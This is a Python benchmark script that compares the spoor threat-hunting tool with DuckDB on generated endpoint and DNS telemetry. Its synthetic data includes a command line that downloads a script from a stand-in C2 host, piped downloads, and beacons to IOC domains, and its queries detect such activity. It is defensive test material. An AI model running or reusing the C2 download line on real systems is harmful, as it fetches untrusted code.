#!/usr/bin/env python3
"""spoor against DuckDB on a large fleet, side by side in one run: ingest and five queries.

    python3 benches/fleet_compare.py --spoor target/release/spoor [--dir DIR] [--runs 3]
        [--processes 5000000] [--dns 4000000] [--only ingest,q1,...]

Generates (once; later runs reuse it) ECS process-start NDJSON from 500 hosts over 5 days,
about 920 bytes an event, as process trees with entity ids, and a Zeek `dns.log` (TSV) of their
lookups, with 5,005 IOC domains. Then, in one run:

- ingest: `spoor ingest` of each file into a fresh store, and DuckDB's `COPY ... TO parquet`
  of the same file (`read_json` / `read_csv`), each in a process of its own (wall time, MB/s,
  peak RSS);
- Q1-Q5, each as a spoor hunt (`spoor hunt`, the whole process: start-up, planning and
  execution) and as DuckDB SQL over the store's Parquet files (execution only, in one
  connection), best of `--runs`; the rows are compared as multisets, and a difference fails
  the run.

Prints the table and the ratios against issue 31's goals (ingest at least 1.5x DuckDB's MB/s,
each query at most 0.8x DuckDB's time). Needs the `duckdb` package (PyPI). DuckDB and spoor get
the same cores (all of them).
"""

import argparse
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from duckdb_compare import normal, spoor_rows  # noqa: E402

import duckdb  # noqa: E402

START = 1_774_915_200  # 2026-03-31T00:00:00Z
DAYS = 5
HOSTS = 500

# ---------------------------------------------------------------------------------------------
# The fleet


# What each program starts, with weights: builds and installs run node, which runs shells,
# which run the usual tools and now and then a downloader.
SPAWNS = {
    "node": [("sh", 5), ("node", 2), ("git", 1), ("esbuild", 1), ("python3", 1)],
    # A downloader under a shell is rare: one child in about 1,500.
    "sh": [("node", 300), ("git", 300), ("cat", 200), ("grep", 200), ("sed", 200), ("mkdir", 200), ("rm", 200),
           ("cp", 100), ("tar", 100), ("make", 100), ("python3", 100), ("uname", 100), ("curl", 1), ("wget", 1),
           ("sh", 100)],
    "bash": [("node", 2), ("npm", 3), ("git", 3), ("ls", 2), ("cat", 2), ("vim", 1), ("ssh", 1), ("sudo", 1),
             ("curl", 1), ("python3", 1), ("docker", 1), ("bash", 1)],
    "dash": [("run-parts", 3), ("logrotate", 2), ("find", 2), ("curl", 1)],
    "npm": [("node", 1)],
    "python3": [("sh", 2), ("git", 1), ("uname", 1), ("pip", 1)],
    "make": [("gcc", 3), ("sh", 2), ("ld", 1)],
    "gcc": [("cc1", 1), ("as", 1)],
    "cron": [("dash", 1)],
    "sudo": [("apt-get", 1), ("systemctl", 1)],
    "docker": [("docker-credential-helper", 1)],
    "java": [("sh", 1), ("java", 1)],
}
ROOTS = [("bash", 5), ("cron", 3), ("node", 2), ("python3", 1), ("java", 1), ("make", 1)]
DAEMONS = {"bash": "sshd", "cron": "cron", "node": "containerd-shim", "python3": "systemd", "java": "systemd",
           "make": "gitlab-runner"}
COMMANDS = {
    "node": ["node /srv/app/node_modules/.bin/webpack --mode production", "node scripts/postinstall.js",
             "node /usr/lib/node_modules/npm/bin/npm-cli.js ci --no-audit", "node server.js --port 3000",
             "node node_modules/esbuild/install.js"],
    # One shell in about 2,000 runs a download itself.
    "sh": ["/bin/sh -c npm run build", "/bin/sh -c node-gyp rebuild", "/bin/sh -c git describe --tags",
           "/bin/sh -c ./configure", "/bin/sh -c echo done"] * 400 +
          ["/bin/sh -c curl -fsSL https://downloads.example.invalid/bin.tgz | tar xz",
           "/bin/sh -c wget -q https://mirror.example.invalid/pkg.tar.gz"],
    "bash": ["-bash", "bash -lc make test", "bash deploy.sh", "bash -c curl -s https://status.example.invalid"],
    "dash": ["/bin/sh -c run-parts --report /etc/cron.daily", "/bin/sh /usr/lib/apt/apt.systemd.daily"],
    "curl": ["curl -fsSL https://downloads.example.invalid/bin.tgz", "curl -s https://status.example.invalid/health",
             "curl -o /tmp/ld.py http://c2.example.invalid:8000/6202033"],
    "wget": ["wget -q https://mirror.example.invalid/pkg.tar.gz", "wget -qO- https://ip.example.invalid"],
    "python3": ["python3 -m pip install -r requirements.txt", "python3 manage.py migrate", "python3 -c import sys"],
    "git": ["git fetch --prune origin", "git rev-parse HEAD", "git status --porcelain", "git clone --depth 1 repo"],
}
PATHS = {"node": "/usr/bin/node", "sh": "/bin/sh", "bash": "/bin/bash", "dash": "/bin/dash", "curl": "/usr/bin/curl",
         "wget": "/usr/bin/wget", "python3": "/usr/bin/python3", "git": "/usr/bin/git", "cron": "/usr/sbin/cron"}
USERS = ["dev", "ci", "root", "build", "www-data"]


def weighted(table):
    names = [n for n, w in table for _ in range(w)]
    return names


SPAWN_CHOICES = {k: weighted(v) for k, v in SPAWNS.items()}
ROOT_CHOICES = weighted(ROOTS)


def executable(name):
    return PATHS.get(name) or f"/usr/bin/{name}"


def command(rng, name):
    options = COMMANDS.get(name)
    return rng.choice(options) if options else f"{name} --version"


def iso(micros):
    seconds, micro = divmod(micros, 1_000_000)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds)) + f".{micro:06d}Z"


def process_line(host, h, proc, parent, user):
    """One ECS process-start event, about 920 bytes."""
    name, entity, pid, micros, cmd = proc
    pname, pentity, ppid, pcmd = parent
    args = json.dumps(cmd.split(" ")[:6])
    pargs = json.dumps(pcmd.split(" ")[:4])
    sha = f"{zlib.crc32(cmd.encode()):08x}" * 8
    return (
        f'{{"@timestamp":"{iso(micros)}","ecs":{{"version":"8.11.0"}},'
        f'"event":{{"kind":"event","category":["process"],"type":["start"],"action":"exec","id":"{entity}-e",'
        f'"ingested":"{iso(micros + 2_000_000)}","module":"endpoint","dataset":"endpoint.events.process"}},'
        f'"agent":{{"type":"endpoint","version":"8.11.0","id":"agent-{h:04d}-9b1c2f"}},'
        f'"host":{{"name":"{host}","hostname":"{host}","id":"hid-{h:04d}","ip":["10.1.{h // 250}.{h % 250 + 1}"],'
        f'"os":{{"type":"linux","family":"debian","name":"Debian GNU/Linux","version":"12","kernel":"6.1.0-18-amd64"}}}},'
        f'"user":{{"name":"{user}","id":"{1000 + USERS.index(user)}","group":{{"name":"{user}"}}}},'
        f'"process":{{"entity_id":"{entity}","pid":{pid},"name":"{name}","executable":"{executable(name)}",'
        f'"command_line":"{cmd}","args":{args},"args_count":{len(cmd.split(" "))},'
        f'"working_directory":"/home/{user}/work","hash":{{"sha256":"{sha}"}},'
        f'"parent":{{"entity_id":"{pentity}","pid":{ppid},"name":"{pname}","executable":"{executable(pname)}",'
        f'"command_line":"{pcmd}","args":{pargs}}}}}}}\n'
    )


def generate_processes(path, total, rng):
    """Process trees: each host starts a session now and then, under a daemon that started before
    the capture; each process starts a few children, 10 ms to a few minutes later."""
    written = 0
    seq = [0] * HOSTS
    # A session's tree is finished even past the hour's budget; the next hour's budget is smaller.
    debt = [0] * HOSTS
    with open(path, "w", buffering=1 << 22) as out:
        for hour in range(DAYS * 24):
            lines = []
            hour_start = (START + hour * 3600) * 1_000_000
            per_hour = (total - written) / (HOSTS * (DAYS * 24 - hour))
            for h in range(HOSTS):
                host = f"host-{h:04d}"
                budget = int(per_hour * rng.uniform(0.5, 1.5)) - debt[h]
                while budget > 0:
                    root = rng.choice(ROOT_CHOICES)
                    daemon = DAEMONS[root]
                    daemon_entity = f"{h:04d}-d{rng.randrange(8)}"
                    user = rng.choice(USERS)
                    t = hour_start + rng.randrange(3_600_000_000)
                    stack = [(root, t, (daemon, daemon_entity, 1 + rng.randrange(900), f"/usr/sbin/{daemon}"), 0)]
                    while stack:
                        name, t, parent, depth = stack.pop()
                        seq[h] += 1
                        # A rare tool: one host's own program (process names seen on one or two hosts).
                        if rng.random() < 0.0005:
                            name = f"tool-{rng.randrange(3000)}"
                        entity = f"{h:04d}-{seq[h]:08d}"
                        pid = 1000 + rng.randrange(60000)
                        cmd = command(rng, name)
                        lines.append((t, process_line(host, h, (name, entity, pid, t, cmd), parent, user)))
                        budget -= 1
                        choices = SPAWN_CHOICES.get(name)
                        if choices and depth < 6:
                            for _ in range(rng.choice((0, 1, 1, 2, 2, 3))):
                                delay = rng.randrange(10_000, 5_000_000) if rng.random() < 0.9 else \
                                    rng.randrange(60_000_000, 900_000_000)
                                stack.append((rng.choice(choices), t + delay, (name, entity, pid, cmd), depth + 1))
                debt[h] = max(0, -budget)
            lines.sort(key=lambda x: x[0])
            out.writelines(line for _, line in lines)
            written += len(lines)
    return written


ZEEK_HEADER = (
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n"
    "#open\t2026-03-31-00-00-00\n"
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\trtt\tquery\tqclass\t"
    "qclass_name\tqtype\tqtype_name\trcode\trcode_name\tAA\tTC\tRD\tRA\tZ\tanswers\tTTLs\trejected\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tinterval\tstring\tcount\tstring\tcount\t"
    "string\tcount\tstring\tbool\tbool\tbool\tbool\tcount\tvector[string]\tvector[interval]\tbool\n"
)


def ioc_domains(rng):
    tlds = ["com", "net", "org", "io", "xyz", "top", "ru", "info"]
    listed = [f"{''.join(rng.choice('bcdfghjklmnpqrstvwxz') for _ in range(rng.randrange(6, 12)))}.{rng.choice(tlds)}"
              for _ in range(5000)]
    # The five the fleet looks up (directly or a subdomain), and 5,000 it never does.
    return ["c2.example.invalid", "sfrclak.example", "update-check.example.org", "cdn-ioc.example.net",
            "beacon.example.invalid"] + listed


def generate_dns(path, total, rng):
    """Lookups: popular names from every host, a long tail of one-off names, regular checks of a
    few services on a few hosts, and beacons to the IOC domains from five hosts."""
    popular = [f"{p}.{d}" for p in ("www", "api", "cdn", "static", "login") for d in
               ("example.com", "example.net", "example.org", "corp.example", "registry.example.invalid",
                "github.example", "pypi.example", "npm.example", "docker.example", "slack.example")] * 4
    services = [f"metrics-{i}.internal.example" for i in range(20)]
    # (host, name, seconds apart)
    beacons = [(17, "x1.c2.example.invalid", 300), (123, "sfrclak.example", 60), (250, "a.beacon.example.invalid", 900),
               (311, "cdn-ioc.example.net", 120), (499, "update-check.example.org", 3600)]
    per_hour = total / (DAYS * 24)
    written = 0
    with open(path, "w", buffering=1 << 22) as out:
        out.write(ZEEK_HEADER)
        for hour in range(DAYS * 24):
            rows = []
            hour_start = START + hour * 3600
            # Beacons: every period seconds, 10 % jitter.
            for h, name, period in beacons:
                t = hour_start + rng.uniform(0, period)
                while t < hour_start + 3600:
                    rows.append((t, h, name))
                    t += period * rng.uniform(0.9, 1.1)
            # Regular checks: service i from hosts i and i + 1, every 5 minutes.
            for i, name in enumerate(services):
                for h in (i * 7, i * 7 + 1):
                    for k in range(12):
                        rows.append((hour_start + k * 300 + rng.uniform(0, 2), h, name))
            budget = int(per_hour * rng.uniform(0.9, 1.1)) - len(rows)
            for _ in range(budget):
                h = rng.randrange(HOSTS)
                r = rng.random()
                if r < 0.8:
                    name = rng.choice(popular)
                elif r < 0.99:
                    name = f"{rng.randrange(1 << 30):x}.tail{rng.randrange(400)}.example.net"
                else:
                    # Names that hold an IOC domain without being it or under it.
                    name = "notsfrclak.example" if rng.random() < 0.5 else "c2.example.invalid.mirror.example.com"
                rows.append((hour_start + rng.uniform(0, 3600), h, name))
            rows.sort(key=lambda x: x[0])
            for t, h, name in rows:
                out.write(
                    f"{t:.6f}\tC{rng.getrandbits(64):016x}\t10.1.{h // 250}.{h % 250 + 1}\t{1024 + rng.randrange(60000)}"
                    f"\t10.0.0.53\t53\tudp\t{rng.randrange(65536)}\t0.000870\t{name}\t1\tC_INTERNET\t1\tA\t0\tNOERROR"
                    f"\tF\tF\tT\tT\t0\t198.51.{rng.randrange(100)}.{rng.randrange(256)}\t300.000000\tF\n")
            written += len(rows)
    return written


def generate(args):
    os.makedirs(args.dir, exist_ok=True)
    marker = os.path.join(args.dir, "generated.json")
    wanted = {"processes": args.processes, "dns": args.dns, "version": 1}
    files = [os.path.join(args.dir, name) for name in ("process.ndjson", "dns.log", "iocs.csv")]
    # A file deleted to save room (the NDJSON is 5 GB) is made again, with the others.
    if os.path.exists(marker) and json.load(open(marker)).get("wanted") == wanted and all(map(os.path.exists, files)):
        return json.load(open(marker))
    rng = random.Random(31)
    started = time.perf_counter()
    processes = generate_processes(os.path.join(args.dir, "process.ndjson"), args.processes, rng)
    dns = generate_dns(os.path.join(args.dir, "dns.log"), args.dns, rng)
    with open(os.path.join(args.dir, "iocs.csv"), "w") as f:
        f.write("type,value,campaign\n")
        f.writelines(f"domain,{d},bench\n" for d in ioc_domains(random.Random(5005)))
    info = {"wanted": wanted, "process_events": processes, "dns_rows": dns}
    json.dump(info, open(marker, "w"))
    print(f"generated {processes:,} process events and {dns:,} DNS rows in {time.perf_counter() - started:.0f} s")
    return info


# ---------------------------------------------------------------------------------------------
# The queries, in spoor's language and in DuckDB's SQL

SHELLS = "('sh', 'bash', 'dash')"
QUERIES = {
    "q1": (
        "shell under node with curl|wget|-enc",
        """process
| where process.parent.name == "node" and process.name in ("sh", "bash", "dash")
    and process.command_line matches "(?i)(curl|wget|\\\\s-enc\\\\s)"
| select @timestamp, host.name, process.entity_id, process.command_line""",
        f"""SELECT "@timestamp", "host.name", "process.entity_id", "process.command_line" FROM process
WHERE "process.parent.name" = 'node' AND "process.name" IN {SHELLS}
  AND regexp_matches("process.command_line", '(?i)(curl|wget|\\s-enc\\s)')""",
    ),
    "q2": (
        "chain node -> shell -> downloader within 10 min",
        """chain n: [process.name == "node"] -> s: [process.name in ("sh", "bash", "dash")]
    -> d: [process.name in ("curl", "wget")]
| where d.@timestamp - n.@timestamp <= 10m
| select d.@timestamp, d.host.name, n.process.entity_id, s.process.entity_id, d.process.entity_id,
    d.process.command_line""",
        f"""SELECT d."@timestamp" AS "d.@timestamp", d."host.name" AS "d.host.name",
  n."process.entity_id" AS "n.process.entity_id", s."process.entity_id" AS "s.process.entity_id",
  d."process.entity_id" AS "d.process.entity_id", d."process.command_line" AS "d.process.command_line"
FROM process n
JOIN process s ON s."process.parent.entity_id" = n."process.entity_id"
JOIN process d ON d."process.parent.entity_id" = s."process.entity_id"
WHERE n."process.name" = 'node' AND s."process.name" IN {SHELLS} AND d."process.name" IN ('curl', 'wget')
  AND d."@timestamp" - n."@timestamp" <= INTERVAL 10 MINUTE""",
    ),
    "q3": (
        "DNS names against 5,005 IOC domains by suffix",
        """let domains = (iocs | where type == "domain")
dns
| lookup domains as ioc on dns.question.name using domain
| select @timestamp, source.ip, dns.question.name, ioc.value""",
        """WITH names AS (SELECT DISTINCT "dns.question.name" AS name FROM dns),
suffixes AS (
  SELECT name, array_to_string(string_split(lower(name), '.')[i:], '.') AS suffix
  FROM names, range(1, len(string_split(name, '.')) + 1) AS r(i)),
hits AS (SELECT s.name, i.value FROM suffixes s JOIN iocs i ON i.type = 'domain' AND lower(i.value) = s.suffix)
SELECT d."@timestamp", d."source.ip", d."dns.question.name", h.value AS "ioc.value"
FROM dns d JOIN hits h ON d."dns.question.name" = h.name""",
    ),
    "q4": (
        "beaconing by client and name, names at most 3 clients look up",
        """let few_clients = (dns | stats clients = count_distinct(source.ip) by dns.question.name | where clients <= 3)
dns
| lookup few_clients as r on dns.question.name = r.dns.question.name
| beacon by source.ip, dns.question.name
| where beacon.count >= 24 and beacon.jitter <= 0.3
| select source.ip, dns.question.name, beacon.count, beacon.first, beacon.last,
    interval = round(beacon.interval, 3), jitter = round(beacon.jitter, 3)""",
        """WITH rare AS (SELECT "dns.question.name" AS name FROM dns GROUP BY 1 HAVING count(DISTINCT "source.ip") <= 3),
gaps AS (
  SELECT d."source.ip" AS client, d."dns.question.name" AS name, d."@timestamp" AS ts,
    epoch_us(d."@timestamp") - lag(epoch_us(d."@timestamp")) OVER (PARTITION BY d."source.ip", d."dns.question.name" ORDER BY d."@timestamp") AS gap
  FROM dns d JOIN rare ON d."dns.question.name" = rare.name),
series AS (
  SELECT client, name, count(*) AS n, min(ts) AS first, max(ts) AS last,
    (epoch_us(max(ts)) - epoch_us(min(ts))) / 1e6 / nullif(count(*) - 1, 0) AS interval,
    stddev_pop(gap) / 1e6 AS stddev
  FROM gaps GROUP BY client, name)
SELECT client AS "source.ip", name AS "dns.question.name", n AS "beacon.count", first AS "beacon.first",
  last AS "beacon.last", round(interval, 3) AS interval, round(stddev / nullif(interval, 0), 3) AS jitter
FROM series WHERE n >= 24 AND stddev / nullif(interval, 0) <= 0.3""",
    ),
    "q5": (
        "process names seen on at most 2 hosts",
        """process
| stats hosts = count_distinct(host.name) by process.name
| where hosts <= 2""",
        """SELECT "process.name", count(DISTINCT "host.name") AS hosts FROM process GROUP BY 1 HAVING hosts <= 2""",
    ),
}


# ---------------------------------------------------------------------------------------------
# Running and measuring


def run(cmd, **kwargs):
    """Runs a command; returns (wall seconds, peak RSS MiB, what it printed if asked for).

    The peak is measured by GNU time where there is one: a process's peak RSS as the kernel
    counts it includes the memory of the process it was forked from, and this one holds
    DuckDB's caches once the first query has run (a 112 MiB spoor hunt reported 468 MiB).
    """
    peak_file = None
    if os.path.exists("/usr/bin/time"):
        handle, peak_file = tempfile.mkstemp(prefix="fleet-peak-")
        os.close(handle)
        cmd = ["/usr/bin/time", "-f", "%M", "-o", peak_file, *cmd]
    started = time.perf_counter()
    proc = subprocess.Popen(cmd, **kwargs)
    _, status, usage = os.wait4(proc.pid, 0)
    wall = time.perf_counter() - started
    proc.returncode = os.waitstatus_to_exitcode(status)
    if proc.returncode != 0:
        sys.exit(f"failed ({proc.returncode}): {' '.join(map(str, cmd))}")
    printed = proc.stdout.read().decode() if proc.stdout else ""
    peak = usage.ru_maxrss / 1024
    if peak_file:
        with open(peak_file) as f:
            peak = int(f.read().split()[-1]) / 1024
        os.remove(peak_file)
    return wall, peak, printed


DUCKDB_INGEST = {
    "ecs": "COPY (SELECT * FROM read_json('{input}', format = 'newline_delimited')) TO '{output}' "
           "(FORMAT parquet, COMPRESSION zstd)",
    "zeek": "COPY (SELECT * FROM read_csv('{input}', delim = '\\t', comment = '#', header = false, "
            "nullstr = '-', auto_detect = true)) TO '{output}' (FORMAT parquet, COMPRESSION zstd)",
}


def ingest(args, results, info):
    store = os.path.join(args.dir, "store")
    shutil.rmtree(store, ignore_errors=True)
    for kind, name, rows in (("ecs", "process.ndjson", info["process_events"]), ("zeek", "dns.log", info["dns_rows"])):
        path = os.path.join(args.dir, name)
        mb = os.path.getsize(path) / 1e6
        wall, rss, _ = run([args.spoor, "ingest", "--store", store, "--format", kind, path], stdout=subprocess.DEVNULL)
        results[f"ingest {kind}"] = {"spoor": (wall, rss, mb / wall)}
        output = os.path.join(args.dir, f"duckdb-{kind}.parquet")
        sql = DUCKDB_INGEST[kind].format(input=path, output=output)
        script = ("import duckdb; c = duckdb.connect(); c.execute('SET enable_progress_bar = false'); "
                  f"print(c.execute({sql!r}).fetchone()[0])")
        wall, rss, printed = run([sys.executable, "-c", script], stdout=subprocess.PIPE)
        os.remove(output)
        # Its rows are all there (spoor's are checked by the queries' answers).
        if int(printed.strip()) != rows:
            sys.exit(f"DuckDB wrote {printed.strip()} rows of {name}, not {rows}")
        results[f"ingest {kind}"]["duckdb"] = (wall, rss, mb / wall)
        print(f"ingest {kind}: {mb:.0f} MB; spoor {results[f'ingest {kind}']['spoor'][0]:.1f} s, "
              f"DuckDB {wall:.1f} s", flush=True)


def queries(args, results, only):
    store = os.path.join(args.dir, "store")
    iocs = os.path.join(args.dir, "iocs.csv")
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    con.execute("SET enable_progress_bar = false")
    for table in ("process", "dns"):
        con.execute(f"CREATE VIEW {table} AS SELECT * FROM read_parquet('{store}/{table}/**/*.parquet', "
                    "hive_partitioning = true, union_by_name = true)")
    con.execute(f"CREATE VIEW iocs AS SELECT * FROM read_csv('{iocs}', header = true, all_varchar = true)")
    mismatches = 0
    for key, (title, hunt, sql) in QUERIES.items():
        if only and key not in only:
            continue
        out = os.path.join(args.dir, f"{key}.ndjson")
        spoor_times = []
        for _ in range(args.runs):
            spoor_times.append(run([args.spoor, "hunt", "--store", store, "--iocs", iocs, "--format", "ndjson",
                                    "--output", out, "--expr", hunt])[:2])
        duck_times = []
        for _ in range(args.runs):
            started = time.perf_counter()
            result = con.execute(sql)
            rows = result.fetchall()
            duck_times.append(time.perf_counter() - started)
        columns = [d[0] for d in result.description]
        theirs = sorted((tuple(normal(v) for v in r) for r in rows), key=repr)
        ours = sorted(spoor_rows(out, columns), key=repr)
        same = ours == theirs
        if not same:
            mismatches += 1
            print(f"{key}: spoor {len(ours)} rows, DuckDB {len(theirs)}\n"
                  f"  only spoor: {[r for r in ours if r not in theirs][:3]}\n"
                  f"  only DuckDB: {[r for r in theirs if r not in ours][:3]}", file=sys.stderr)
        best = min(spoor_times)
        results[key] = {"title": title, "rows": len(ours), "same": same, "spoor": best, "duckdb": min(duck_times)}
        print(f"{key}: {len(ours)} rows, same: {same}; spoor {best[0]:.3f} s ({best[1]:.0f} MiB), "
              f"DuckDB {min(duck_times):.3f} s", flush=True)
    return mismatches


def report(results, info):
    print(f"\n{info['process_events']:,} process events, {info['dns_rows']:,} DNS rows\n")
    print("| work | DuckDB | spoor | goal | met |")
    print("|---|---|---|---|---|")
    for kind in ("ecs", "zeek"):
        r = results.get(f"ingest {kind}")
        if r:
            (dw, drss, dmb), (sw, srss, smb) = r["duckdb"], r["spoor"]
            ratio = smb / dmb
            print(f"| ingest {kind} | {dw:.1f} s, {dmb:.0f} MB/s, {drss:.0f} MiB | {sw:.1f} s, {smb:.0f} MB/s, "
                  f"{srss:.0f} MiB | {ratio:.2f}x DuckDB's MB/s, goal 1.5 | {'yes' if ratio >= 1.5 else 'no'} |")
    for key in QUERIES:
        r = results.get(key)
        if r:
            ratio = r["spoor"][0] / r["duckdb"]
            print(f"| {key} {r['title']} ({r['rows']} rows{'' if r['same'] else ', NOT THE SAME'}) | "
                  f"{r['duckdb']:.3f} s | {r['spoor'][0]:.3f} s, {r['spoor'][1]:.0f} MiB | "
                  f"{ratio:.2f}x DuckDB's time, goal 0.8 | {'yes' if ratio <= 0.8 else 'no'} |")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--spoor", required=True, help="the spoor binary (a release build)")
    parser.add_argument("--dir", default=os.path.expanduser("~/.cache/spoor/bench/fleet-31"))
    parser.add_argument("--processes", type=int, default=5_000_000)
    parser.add_argument("--dns", type=int, default=4_000_000)
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--only", default="", help="comma-separated: ingest, q1, ..., q5")
    args = parser.parse_args()
    only = {o for o in args.only.split(",") if o}
    info = generate(args)
    results = {}
    store_ready = os.path.exists(os.path.join(args.dir, "store", "_manifest"))
    if not only or "ingest" in only or not store_ready:
        ingest(args, results, info)
    # `--only ingest` runs no query; no `--only` runs them all.
    asked = only - {"ingest"}
    mismatches = queries(args, results, asked) if asked or not only else 0
    report(results, info)
    sys.exit(1 if mismatches else 0)


if __name__ == "__main__":
    main()
